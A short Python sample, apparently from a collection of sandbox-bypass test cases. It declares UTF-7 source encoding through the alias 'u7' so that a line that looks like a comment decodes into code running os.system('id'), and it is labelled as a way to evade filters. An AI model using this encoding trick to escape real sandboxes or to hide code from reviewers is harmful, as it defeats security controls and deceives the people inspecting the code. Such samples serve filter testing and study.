# -*- coding: u7 -*-
# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (UTF-7 section); Python codec alias table (u7, unicode-1-1-utf-7 map to utf_7)
# Family: source-encoding
# What: utf_7 requested through its alias u7, so a filter looking for the text utf_7 or utf-7 misses it
z = 3
#+AAo-import os+AAo-os.system(+ACI-id+ACI-)
print(z)
